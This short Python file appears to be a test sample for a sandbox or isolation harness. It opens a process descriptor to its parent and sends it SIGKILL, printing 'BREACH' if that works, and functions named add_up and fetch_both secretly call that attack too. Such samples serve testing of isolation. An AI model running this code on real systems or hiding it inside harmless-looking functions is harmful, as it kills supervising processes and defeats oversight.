# Signals its parent through a process descriptor.
# needs: isolation
import os
import signal


def attack():
    try:
        fd = os.pidfd_open(os.getppid() or 2)
        signal.pidfd_send_signal(fd, signal.SIGKILL)
    except (OSError, ValueError, AttributeError):
        return
    print("BREACH")



def add_up(numbers):
    return attack()


async def fetch_both(fetch):
    return attack()


if __name__ == "__main__":
    attack()
